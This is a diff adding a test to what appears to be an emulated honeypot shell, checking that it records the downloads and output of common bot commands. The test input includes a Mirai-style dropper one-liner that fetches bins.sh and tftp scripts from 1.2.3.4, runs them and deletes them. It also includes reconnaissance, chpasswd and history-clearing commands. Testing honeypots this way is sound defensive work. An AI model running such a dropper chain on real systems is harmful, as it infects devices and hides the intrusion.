@@ -216,6 +216,27 @@ def test_lists_and_pipes_behave_as_bash() -> None:
     assert sh.run("busybox ECCHI").output == "ECCHI: applet not found"
 
 
+def test_common_bot_one_liners() -> None:
+    sh = shell()
+    mirai = sh.run(
+        "cd /tmp || cd /var/run; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh; "
+        "tftp 1.2.3.4 -c get t1.sh; tftp -r t2.sh -g 1.2.3.4; rm -rf bins.sh t1.sh t2.sh"
+    )
+    assert mirai.downloads == ("http://1.2.3.4/bins.sh", "tftp://1.2.3.4/t1.sh",
+                               "tftp://1.2.3.4/t2.sh")  # fmt: skip
+    assert "chmod: cannot access 'bins.sh': No such file or directory" in mirai.output
+    assert sh.run("free -m | grep Mem | awk '{print $2}'").output == str(sh.memory_kib // 1024)
+    root_fs = sh.run("cat /proc/mounts | grep ' / '").output.split()[0]
+    assert sh.run("df -h | grep ' /$'").output.startswith(root_fs)
+    assert re.fullmatch(
+        r"-rwxr-xr-x 1 root root 148K .* /usr/bin/ls", sh.run("ls -lh $(which ls)").output
+    )
+    assert sh.run("echo hello > .s; dd bs=2 count=1 if=.s 2>/dev/null").output == "he"
+    assert sh.run("echo 'root:x' | chpasswd; echo $?").output == "0"
+    sh.run("history -c")
+    assert sh.run("history").output == "    1  history"
+
+
 def test_uptime_grows_and_ps_shows_the_facts_pids() -> None:
     now = [NOW]
     sh = FakeShell(PERSONA, "root", lambda: now[0], connection=ATTACKER)
